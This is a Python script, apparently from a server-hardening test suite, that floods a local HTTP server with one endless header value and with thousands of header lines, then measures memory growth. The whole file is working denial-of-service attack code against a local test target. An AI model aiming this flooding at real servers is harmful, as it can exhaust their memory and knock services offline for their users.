"""One connection sends a header without end; another sends header lines without end."""

import argparse
import asyncio
from contextlib import suppress

from house import Finding, House, measured, open_house, run, visited

ATTACKER = "127.0.0.2"
MEGABYTES = 48


async def flood(house: House, head: bytes, part: bytes, megabytes: int) -> None:
    """Send a part again and again, until the server closes."""
    with suppress(OSError):
        _, writer = await house.connect(ATTACKER)
        writer.write(head)
        for _ in range(megabytes * 2**20 // len(part)):
            writer.write(part)
            await writer.drain()
        writer.close()


async def attack(options: argparse.Namespace) -> list[Finding]:
    """Send both, one after the other."""
    size, head = options.count or MEGABYTES, b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n"
    with open_house(options.source) as house:
        await house.ask("/healthz")
        before = house.memory
        async with visited(house) as visit:
            await flood(house, head + b"X: ", b"x" * 65536, size // 3)
            await flood(house, head, b"X: y\r\n" * 10_000, size)
            await asyncio.sleep(1)
        return measured(visit, before, seconds=2.0, growth=40)


if __name__ == "__main__":
    run(attack, __doc__)
